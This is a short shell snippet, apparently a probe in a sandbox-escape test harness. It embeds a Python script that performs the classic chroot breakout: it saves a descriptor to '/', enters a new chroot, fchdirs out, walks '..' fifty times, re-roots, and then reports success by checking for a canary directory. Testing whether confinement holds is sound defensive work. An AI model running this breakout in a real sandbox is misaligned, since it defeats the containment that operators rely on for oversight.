# The oldest way out of a root.
python3 - <<'P' && won "left the root"
import os
fd = os.open("/", os.O_RDONLY)
try:
    os.mkdir("jail"); os.chroot("jail"); os.fchdir(fd)
    for _ in range(50): os.chdir("..")
    os.chroot(".")
except OSError as err:
    print(err)
raise SystemExit(0 if os.path.exists(os.environ["CANARY_DIR"]) else 1)
P
